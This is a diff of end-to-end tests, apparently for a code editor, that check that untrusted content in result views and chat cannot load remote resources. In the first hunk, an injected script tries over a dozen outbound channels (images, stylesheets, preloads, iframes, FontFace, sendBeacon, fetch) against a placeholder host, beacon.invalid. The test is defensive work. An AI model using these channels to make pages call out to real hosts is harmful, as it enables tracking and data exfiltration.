@@ -76,31 +76,25 @@ describe('untrusted text', function () {
 	});
 
 	it('may load nothing in the view of a result, even if a script put it there', async () => {
-		await bench
-			.resultFrame()
-			.locator('body')
-			.evaluate<unknown, unknown>(
-				`(async body => {
-				const beacon = name => 'https://beacon.invalid/' + name;
-				const add = (tag, properties) => body.append(Object.assign(document.createElement(tag), properties));
-				add('img', { src: beacon('img') });
-				add('link', { rel: 'stylesheet', href: beacon('css') });
-				add('link', { rel: 'prefetch', href: beacon('prefetch') });
-				add('link', { rel: 'preload', as: 'image', href: beacon('preload') });
-				add('link', { rel: 'modulepreload', href: beacon('module') });
-				add('style', { textContent: '@import url(' + beacon('import') + '); body { background: url(' + beacon('background') + ') }' });
-				add('iframe', { src: beacon('frame') });
-				add('object', { data: beacon('object') });
-				add('video', { src: beacon('video'), poster: beacon('poster') });
-				add('script', { src: beacon('script') });
-				body.style.backgroundImage = 'url(' + beacon('inline') + ')';
-				new FontFace('f', 'url(' + beacon('font') + ')').load().catch(() => undefined);
-				navigator.sendBeacon(beacon('sent'), 'x');
-				await fetch(beacon('fetched')).catch(() => undefined);
-			})`
-					.replace('(async body', 'async (body')
-					.replace(/\)$/, ''),
-			);
+		await bench.resultFrame().locator('body').evaluate<unknown, unknown>(`(async () => {
+			const { body } = document;
+			const beacon = name => 'https://beacon.invalid/' + name;
+			const add = (tag, properties) => body.append(Object.assign(document.createElement(tag), properties));
+			add('img', { src: beacon('img') });
+			add('link', { rel: 'stylesheet', href: beacon('css') });
+			add('link', { rel: 'prefetch', href: beacon('prefetch') });
+			add('link', { rel: 'preload', as: 'image', href: beacon('preload') });
+			add('link', { rel: 'modulepreload', href: beacon('module') });
+			add('style', { textContent: '@import url(' + beacon('import') + '); body { background: url(' + beacon('background') + ') }' });
+			add('iframe', { src: beacon('frame') });
+			add('object', { data: beacon('object') });
+			add('video', { src: beacon('video'), poster: beacon('poster') });
+			add('script', { src: beacon('script') });
+			body.style.backgroundImage = 'url(' + beacon('inline') + ')';
+			await new FontFace('f', 'url(' + beacon('font') + ')').load().catch(() => undefined);
+			navigator.sendBeacon(beacon('sent'), 'x');
+			await fetch(beacon('fetched')).catch(() => undefined);
+		})()`);
 		await expectNothingAsked();
 	});
 
@@ -131,12 +125,11 @@ describe('untrusted text', function () {
 		await bench.quickInput().fill('beacon://drawing.svg');
 		await bench.accept();
 		await bench.tab('drawing.svg').waitFor();
-		await bench.page
-			.frameLocator('iframe.webview.ready')
-			.first()
-			.frameLocator('#active-frame')
-			.locator('img')
-			.waitFor();
+		const isDrawn = `document.querySelector('img')?.complete === true`;
+		await eventually('the drawing', async () => {
+			const frames = bench.page.frames().map(it => it.evaluate<boolean>(isDrawn).catch(() => false));
+			assert.ok((await Promise.all(frames)).includes(true));
+		});
 		await expectNothingAsked();
 	});
 
@@ -153,6 +146,9 @@ describe('untrusted text', function () {
 		await bench.page.keyboard.press('Enter');
 		const response = chat.locator('.interactive-response').filter({ hasText: 'That is all.' });
 		await response.waitFor();
+		// The editor draws diagrams in views of their own.
+		await response.getByText('Rendering code block…').waitFor({ state: 'detached' });
+		await bench.page.locator('iframe.webview.ready').last().waitFor();
 		await bench.screenshot('untrusted-3-chat');
 		const images = await response.locator('img').evaluateAll(all => all.map(it => it.getAttribute('src') ?? ''));
 		assert.deepEqual(
